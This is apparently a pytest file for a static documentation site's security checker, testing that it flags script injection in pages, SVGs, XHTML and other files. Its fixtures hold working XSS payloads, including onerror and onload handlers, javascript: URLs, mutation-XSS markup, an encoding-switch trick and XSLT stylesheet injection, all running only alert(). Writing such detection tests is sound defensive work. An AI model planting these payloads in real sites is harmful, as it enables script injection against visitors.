    found = [(d.line, d.col, d.message) for d in check_site.check(site, project).diagnostics if d.code == "HTM006"]
    assert found == [(*line_col(text, text.index('<p title="&lt;img')), "unsafe title '<img src=x onerror=alert(1)>' "
                      "on <p>, which the theme's tooltip shows as HTML: it runs a script")]


# A page of a hand-made site with `markup` first in its body, and the HTM006 problems the site check
# finds, as (line, col, message).
def htm006_around_content(tmp_path, markup: str) -> tuple[str, list[tuple[int, int, str]]]:
    site, project = hand_made_site(tmp_path, articles({"plain": "", "nav": ""}))
    path = site / "claims" / "nav.html"
    text = path.read_text().replace("<body>", "<body>" + markup)
    path.write_text(text)
    return text, [(d.line, d.col, d.message) for d in check_site.check(site, project).diagnostics if d.code == "HTM006"]


# Material gives a title it cuts short (.md-ellipsis: navigation, header) its own text as a
# tooltip, as HTML: around the content, such a text that reads as markup running a script is reported.
def test_a_title_the_theme_cuts_short_that_reads_as_markup_is_reported(tmp_path):
    text, found = htm006_around_content(tmp_path, '<nav><span class="md-ellipsis">A &lt;img src=x onerror=alert(1)'
                                                  '&gt; page</span><span class="md-ellipsis">A &lt;b&gt; page</span></nav>')
    assert found == [(*line_col(text, text.index('<span class="md-ellipsis">A &lt;img')),
                      "unsafe heading 'A <img src=x onerror=alert(1)> page': where the theme cuts a title short "
                      "(navigation, contents, header), its tooltip shows the text as HTML, and it runs a script, "
                      "outside the page's content")]


# The theme writes a title it cuts short as text: an element there came from a title (a file name
# makes the title of a page without a heading). A helper's <ruby><rp> hid an <img> from the text a
# reading keeps, which the tooltip's innerText leaves out: hovering the header ran it.
def test_a_title_the_theme_cuts_short_that_holds_elements_is_reported(tmp_path):
    hidden = "<ruby><rp>&lt;textarea&gt;<rt>&lt;img src=x onerror=alert(1)&gt;</rt></rp></ruby>"
    text, found = htm006_around_content(tmp_path, f'<header><span class="md-ellipsis">{hidden}</span></header>')
    assert found == [(*line_col(text, text.index("<ruby>")),
                      "unsafe element <ruby> in a title the theme cuts short (navigation, header), where it writes "
                      "only text: its tooltip shows what a reader sees of the title as HTML, outside the page's "
                      "content")]


# The theme finds its own elements by id, and the first of the page is found: an element of the
# content with the id of the theme's configuration takes it over.
def test_an_element_of_the_content_with_an_id_of_the_theme_is_reported_where_it_stands(tmp_path):
    site, project = hand_made_site(tmp_path, articles({"plain": "", "takes-id": '<p>x</p><div id="config">{}</div>'}))
    for path in (site / "claims").glob("*.html"):
        path.write_text(path.read_text().replace("</body>", THEME_SCRIPTS["claims"] + "</body>"))
    text = (site / "claims" / "takes-id.html").read_text()
    found = [(Path(d.path).name, d.line, d.col, d.message) for d in check_site.check(site, project).diagnostics
             if d.code == "HTM006"]
    assert found == [("takes-id.html", *line_col(text, text.index('<div id="config">')),
                      "the id 'config' is the theme's, on an element around the page's content: its script would "
                      "find this one")]


# Themes without an <article> or <main> of their own (MkDocs' own two) are read by the element the
# page's markup writes: what runs after it is no more the theme's than what runs after an early end.
@pytest.mark.parametrize("theme", ["mkdocs", "readthedocs"])
def test_a_page_that_writes_the_content_element_of_a_theme_without_one_is_still_read(tmp_path, theme):
    site, project = hand_made_site(tmp_path, {})
    config = yaml.safe_load((project / "mkdocs.yml").read_text())
    (project / "mkdocs.yml").write_text(yaml.safe_dump({**config, "theme": theme, "plugins": []}))
    # Two plain pages: readthedocs writes each page's data in a script of its <head> but not on
    # the 404 page, and the comparison counts what most of a page's other pages hold.
    for name in ("plain", "other"):
        (project / "docs" / "claims" / f"{name}.md").write_text(f"# {name.title()}\n\nSaid.\n")
    (project / "docs" / "claims" / "main.md").write_text("# Main\n\n<main>Said.</main>\n\n<script>alert(11)</script>\n")
    built = build_site(project / "mkdocs.yml", tmp_path / "built", strict=False)
    text = (built / "claims" / "main" / "index.html").read_text()
    found = {(d.line, d.col) for d in check_site.check(built, project).diagnostics
             if d.code == "HTM006" and Path(d.path).parent.name == "main"}
    assert found == {line_col(text, text.index("<script>alert(11)"))}


# A browser reads a page in the encoding its first 1024 bytes name, found by reading bytes: a
# <meta charset> in an SVG's CDATA counts. The check reads UTF-8, so each page must say UTF-8 there
# and nothing else.
ISO_2022_JP = '<svg><![CDATA[><meta charset="iso-2022-jp">]]></svg><img alt="\x1b$B">\x1b(B<img alt=" src=x onerror=alert(8)//">'


def test_a_page_must_say_utf8_in_its_first_bytes_and_nothing_else(tmp_path):
    site, project = hand_made_site(tmp_path, {name: "" for name in ("none", "switched", "bom", "http-equiv")})
    article = f"<article><p>Said.{MARKER}</p>{FOOTNOTES}"
    files = {
        "none": f"<html><body>{article}</article></body></html>".encode(),
        "switched": f"<html><body>{article}{ISO_2022_JP}</article></body></html>".encode(),
        "bom": f"\ufeff<html><body>{article}</article></body></html>".encode(),
        "http-equiv": f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>'
                      f"<body>{article}</article></body></html>".encode(),
    }
    for name, data in files.items():
        (site / "claims" / f"{name}.html").write_bytes(data)
    found = {(Path(d.path).name, d.code, d.message) for d in check_site.check(site, project).diagnostics}
    assert found == {
        ("none.html", "SIT003", "the page names no encoding in its first 1024 bytes: a browser guesses one, "
                                "the check reads UTF-8"),
        ("switched.html", "SIT003", "the page names the encoding 'iso-2022-jp' first: a browser reads the page "
                                    "in it, the check in UTF-8"),
        ("switched.html", "HTM006", f"unsafe <svg> element, {rendered.ELEMENT_EFFECTS['svg']}"),
    }, found


# Pages whose encoding only the prescan's own reading of bytes finds (each with the ISO-2022-JP
# script above): "charset=" written where no declaration stands, a real <meta> after the first
# 1024 bytes, an XML declaration. Each passed the check when it counted every "charset=" in the
# first 1024 bytes; each is reported now, and the false alarms of that rule are gone.
ENCODINGS = {
    "title-then-late-meta": (f'<html><head><title>charset=utf-8</title><!-- {"x" * 1100} -->'
                             f'<meta charset="iso-2022-jp"></head><body>', True),
    "comment-only": ('<html><head><!-- charset=utf-8 --><link title="charset=utf-8"></head><body>', True),
    "xml-declaration": ('<?xml version="1.0" encoding="iso-2022-jp"?><html><head><!-- charset=utf-8 --></head><body>',
                        True),
    "content-without-http-equiv": ('<html><head><meta content="text/html; charset=utf-8"></head><body>', True),
    "utf16-label": ('<html><head><meta charset="utf-16"></head><body>', False),
    "utf8-alias": ('<html><head><meta charset="unicode-1-1-utf-8"></head><body>', False),
    "utf8-then-other": ('<html><head><meta charset="utf-8"><meta charset="iso-2022-jp"></head><body>', False),
}


# The ENCODINGS pages, each with the ISO-2022-JP script, in a hand-made site.
def encoding_site(tmp_path: Path) -> tuple[Path, Path]:
    site, project = hand_made_site(tmp_path, {name: "" for name in ENCODINGS})
    for name, (head, _) in ENCODINGS.items():
        (site / "claims" / f"{name}.html").write_bytes(
            f"{head}<article><p>Said.{MARKER}</p>{FOOTNOTES}{ISO_2022_JP}</article></body></html>".encode())
    return site, project


def test_the_encoding_is_the_one_the_prescan_finds(tmp_path):
    site, project = encoding_site(tmp_path)
    found = {Path(d.path).stem for d in check_site.check(site, project).diagnostics if d.code == "SIT003"}
    assert found == {name for name, (_, reported) in ENCODINGS.items() if reported}


# Markup that a browser builds into a harmless tree, but whose serialization, parsed again, holds
# a live <img onerror> (mutation XSS), and one <img onerror> that is live as written: the check
# reads each article in the page's own tree, as the browser does, so it finds the live one only.
MUTATING = {
    "mglyph-in-table": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "form-in-math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(2)>",
}
LIVE = '<svg></p><style><a id="</style><img src=1 onerror=alert(3)>">'


def test_the_check_reads_each_article_in_the_tree_a_browser_builds(tmp_path):
    pages = articles(MUTATING)
    pages.update(articles({"live": LIVE}))
    site, project = hand_made_site(tmp_path, pages)
    # (Each page's <style>, <svg> and <math> is reported as well: content may hold none.)
    found = [(Path(d.path).name, d.code, d.message) for d in check_site.check(site, project).diagnostics
             if not any(f"<{tag}> element," in d.message for tag in ("style", "svg", "math"))]
    assert found == [("live.html", "HTM006", "unsafe onerror attribute on <img>")], found


# <image> tags, which browsers read as <img> (and as SVG's own <image> inside an SVG). In a table
# or a select lexbor dropped the tag, and the check passed pages on which Chromium ran the onerror.
IMAGES = {
    "table-image": "<table><tr><td>x</td></tr>\n<image src=x onerror=alert(8)></table>",
    "select-image": "<select>\n<option>x</option><IMAGE/src=x onerror=alert(9)></select>",
    "svg-style-breakout": "<svg><image/>\n<style><img src=x onerror=alert(10)></style></svg>",
}


def test_an_image_tag_is_read_as_the_img_a_browser_makes_of_it(tmp_path):
    pages = articles(IMAGES)
    site, project = hand_made_site(tmp_path, pages)
    expected = set()
    for name in IMAGES:
        text = (site / "claims" / f"{name}.html").read_text()
        expected.add((f"{name}.html", *line_col(text, max(text.rfind("<image"), text.rfind("<IMAGE"), text.rfind("<img")))))
    found = {(Path(d.path).name, d.line, d.col) for d in check_site.check(site, project).diagnostics
             if d.code == "HTM006" and "onerror attribute on <img>" in d.message}
    assert found == expected


# Whatever the folder holds, the check reports it and never stops with a traceback: a ledger of
# the wrong shape, a page it cannot read, a refresh to no address (each was a traceback).
@pytest.mark.parametrize("claims", [5, [{"a": 1}], [["x"]], {"page": []}, True, [None],
                                    [{"page": [], "anchor": {}, "sources": []}],
                                    [{"page": "claims/fine.html", "anchor": "fnref:real2020", "sources": 5}],
                                    [{"page": "claims/fine.html", "anchor": "fnref:real2020", "sources": [{"a": 1}]}]])
def test_a_ledger_of_the_wrong_shape_is_reported(tmp_path, claims):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    (site / "claims.json").write_text(json.dumps({"format": "alignment-basics/claims", "version": 1, "claims": claims}))
    assert "SIT001" in codes(check_site.check(site, project))


def test_a_ledger_nested_too_deep_or_of_version_true_is_reported(tmp_path):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    ledger = json.loads((site / "claims.json").read_text())
    (site / "claims.json").write_text(json.dumps({**ledger, "version": True}))
    assert "SIT001" in codes(check_site.check(site, project))
    (site / "claims.json").write_text("[" * 100_000 + "]" * 100_000)
    assert "SIT001" in codes(check_site.check(site, project))


def test_a_page_that_cannot_be_read_is_reported(tmp_path):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    (site / "claims" / "folder.html").mkdir()
    (site / "claims" / "gone.html").symlink_to(site / "claims" / "nothing-here.html")
    (site / "claims" / "loop.html").symlink_to(site / "claims" / "loop.html")
    found = {(Path(d.path).name, d.code) for d in check_site.check(site, project).diagnostics}
    assert found == {("folder.html", "SIT004"), ("gone.html", "SIT004"), ("loop.html", "SIT004")}


@pytest.mark.parametrize("target", ["http://[x/", "//[::1", "a" * 5000, "/".join(["b" * 250] * 30)],
                         ids=["broken-ipv6", "broken-ipv6-host", "long-name", "long-path"])
def test_a_refresh_to_no_address_is_reported(tmp_path, target):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    (site / "moved.html").write_text(f'<html><head><meta charset="utf-8"><meta http-equiv="refresh" '
                                     f'content="0; url={target}"></head><body></body></html>')
    found = {(Path(d.path).name, d.code) for d in check_site.check(site, project).diagnostics}
    assert ("moved.html", "SIT002") in found


# Every file a browser opens as a page is read: other HTML extensions, the 404 page, pages among the
# theme's files, and SVG and XHTML documents (by an XML parser, as a browser opening one at its
# own address reads it). Each of these ran a script in Chromium, unseen by the check.
OTHER_DOCUMENTS = {
    "claims/x.htm": ("<html><body><script>alert(1)</script></body></html>", {("HTM006", 1, 48)}),
    "claims/x.HTML": ("<html><body>\n<img src=x onerror=alert(1)></body></html>", {("HTM006", 2, 1)}),
    "claims/x.shtml": ("<html><body><svg onload=alert(1)></svg></body></html>", {("HTM006", 1, 48)}),
    "404.html": ("<html><body><p>Not here.</p><img src=x onerror=alert(404)></body></html>", {("HTM006", 1, 64)}),
    "assets/x/index.html": ("<html><body><iframe src=javascript:alert(1)></iframe></body></html>",
                            {("HTM003", 1, 48), ("HTM006", 1, 48)}),
    "assets/diagram.svg": ('<svg xmlns="http://www.w3.org/2000/svg">\n  <script>alert(1)</script></svg>',
                           {("HTM006", 2, 3)}),
    "assets/handler.svg": ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', {("HTM006", 1, 1)}),
    "assets/link.SVG": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                        '<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', {("HTM003", 1, 84)}),
    # A browser runs what stands before the error.
    "assets/broken.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><g></svg>',
                          {("HTM006", 1, 41), ("SIT004", 1, 71)}),
    "assets/entity.svg": ('<!DOCTYPE svg [<!ENTITY x "y">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
                          {("SIT004", 1, 15)}),
    "claims/x.xhtml": ('<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
                       {("HTM006", 1, 50)}),
    "assets/fine.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.org"><text>x</text></a></svg>',
                        set()),
    # Any XML type runs an XHTML or SVG script, by extension (these ran, linked from a page) or,
    # with no registered extension, by its content; text types are no documents.
    "assets/chain.xml": ('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)'
                         '</script></body></html>', {("HTM006", 2, 50)}),
    "assets/feed.RSS": ('<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
                        {("HTM006", 1, 50)}),
    "assets/x.xhtm": ('<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
                      {("HTM006", 1, 50)}),
    "assets/plain.svgz": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', {("HTM006", 1, 41)}),
    "assets/no-extension": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
                            {("HTM006", 1, 41)}),
    "assets/broken.xml": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><g></svg>',
                          {("HTM006", 1, 41), ("SIT004", 1, 71)}),
    "assets/notes.dat": ("<b>not XML, & nothing that runs", set()),
    "assets/LICENSE": ("Permission is granted <without> fee & so on.\n", set()),
    "assets/example.txt": ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', set()),
    # Chromium opens .shtm as HTML; a type the check does not know is read as HTML when it is not
    # XML (a .xbl ran from disk, a .xpdl over HTTP: each platform's table of types said XML, and a
    # browser runs what stands before the error).
    "claims/notes.shtm": ("<html><body><script>alert(1)</script><p></body></html>", {("HTM006", 1, 48)}),
    "assets/data.xbl": ('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>\n<', {("HTM006", 1, 44)}),
    "assets/data.xpdl": ('x\n<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>', {("HTM006", 2, 44)}),
    # Well-formed XML that runs read as HTML: a processing instruction is a comment there, ending at
    # its first ">". An XHTML script found by both readings is reported once.
    "assets/data.xqm": ('<?x a><img src=x onerror=alert(1)>?><html xmlns="http://www.w3.org/1999/xhtml"><script>'
                        'alert(1)</script></html>', {("HTM006", 1, 7), ("HTM006", 1, 80)}),
    # An XSLT stylesheet named by a processing instruction writes what it likes, a script too (it
    # ran over HTTP, the stylesheet itself an SVG with no <script> tag); a CSS stylesheet styles.
    "assets/plot.svg": ('<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="style.svg"?>\n'
                        '<svg xmlns="http://www.w3.org/2000/svg"/>', {("HTM006", 2, 1)}),
    "assets/sneaky.svg": ('<?xml-stylesheet href="s.xsl?type=\'text/css\'" type="text/xsl"?>'
                          '<svg xmlns="http://www.w3.org/2000/svg"/>', {("HTM006", 1, 1)}),
    "assets/styled.svg": ('<?xml-stylesheet type="text/css" href="style.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
                          set()),
}


def test_every_file_a_browser_opens_as_a_page_is_read(tmp_path):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    for name, (text, _) in OTHER_DOCUMENTS.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        html = Path(name).suffix.lower() in (".htm", ".html", ".shtml", ".shtm")
        (site / name).write_text(text.replace("<html>", '<html><head><meta charset="utf-8"></head>', 1) if html else text)
    found = {(Path(d.path).relative_to(site).as_posix(), d.code, d.line, d.col)
             for d in check_site.check(site, project).diagnostics}
    assert found == {(name, *problem) for name, (_, problems) in OTHER_DOCUMENTS.items() for problem in problems}


# A compressed SVG is read unpacked, as a browser reads it; one that unpacks past the limit is reported.
def test_a_compressed_svg_is_read_unpacked(tmp_path, monkeypatch):
    site, project = hand_made_site(tmp_path, articles({"fine": ""}))
    (site / "assets").mkdir()
    (site / "assets" / "drawing.svgz").write_bytes(gzip.compress(
        b'<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>'))
    (site / "assets" / "big.svgz").write_bytes(gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'/>" + b" " * 4096))
    monkeypatch.setattr(sitecheck, "UNPACKED_LIMIT", 1024)
    found = {(Path(d.path).name, d.code, d.line, d.col, d.message) for d in check_site.check(site, project).diagnostics}
    assert found == {("drawing.svgz", "HTM006", 2, 1, "unsafe <script> element"),
                     ("big.svgz", "SIT004", 1, 1, "the document cannot be read (it unpacks to more than 1,024 bytes)")}


def test_the_command_prints_problems_and_exits_one(tmp_path):
    result = subprocess.run([sys.executable, str(ROOT / "tools" / "check_site.py"), str(tmp_path / "nothing")],
                            capture_output=True, text=True)
    assert result.returncode == 1 and "SIT001" in result.stdout and "make build" in result.stdout


# The hooks' cite-this-page block copies the element with its own ids, and only there: the same
# button and id elsewhere in the content copy what a page puts there.
def test_only_the_hooks_cite_block_may_hold_its_copy_buttons_and_ids(tmp_path):
    block = ('<p id="cite-apa">Cite this.</p><button class="md-button cite-copy" '
             'data-clipboard-target="#cite-apa">Copy APA</button>')
    site, project = hand_made_site(tmp_path, articles({"own": f'<details class="quote cite-this-page">{block}</details>',
                                                      "forged": f"<div>{block}</div>"}))
    found = {(Path(d.path).name, d.message.split(" on <")[0]) for d in check_site.check(site, project).diagnostics
             if d.code == "HTM006"}
    assert found == {("forged.html", "unsafe id 'cite-apa'"), ("forged.html", "unsafe data-clipboard-target attribute")}
